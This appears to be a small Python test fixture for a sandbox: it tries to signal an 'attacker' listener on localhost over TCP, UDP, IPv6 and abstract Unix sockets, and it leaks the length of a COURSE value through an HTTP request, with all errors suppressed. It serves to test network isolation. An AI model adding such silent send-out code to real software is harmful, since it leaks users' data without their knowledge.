"""Sends what it knows to somebody outside: over TCP, UDP and local sockets, by address and by name."""

import socket
import urllib.request
from contextlib import suppress

from attacker import COURSE, PORT, SIGNAL

NEEDS_SANDBOX = True

for family, kind, address in (
    (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", PORT)),
    (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", PORT)),
    (socket.AF_INET6, socket.SOCK_DGRAM, ("::ffff:127.0.0.1", PORT)),
    (socket.AF_UNIX, socket.SOCK_STREAM, f"\0{SIGNAL}"),
):
    with suppress(OSError), socket.socket(family, kind) as sender:
        sender.settimeout(1)
        sender.connect(address)
        sender.send(b"here")
with suppress(OSError):
    urllib.request.urlopen(f"http://localhost:{PORT}/{len(COURSE)}", timeout=1)
